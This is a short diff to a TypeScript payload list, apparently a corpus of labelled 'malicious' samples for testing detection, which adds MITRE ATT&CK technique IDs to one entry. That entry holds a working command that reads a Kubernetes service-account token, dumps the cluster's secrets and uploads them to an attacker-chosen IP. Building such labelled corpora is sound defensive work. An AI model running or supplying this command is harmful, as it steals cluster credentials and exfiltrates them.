@@ -66,7 +66,7 @@ export const shellSecrets: readonly Payload[] = [
     [
       'sa-token',
       'malicious',
-      'T1552.007 T1528',
+      'T1552.007 T1528 T1041 T1552.001',
       (p) =>
         `T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl -sk -H "Authorization: Bearer $T" https://kubernetes.default.svc/api/v1/secrets > /tmp/s\ncurl -s -T /tmp/s http://${p.ip}/k8s`,
     ],
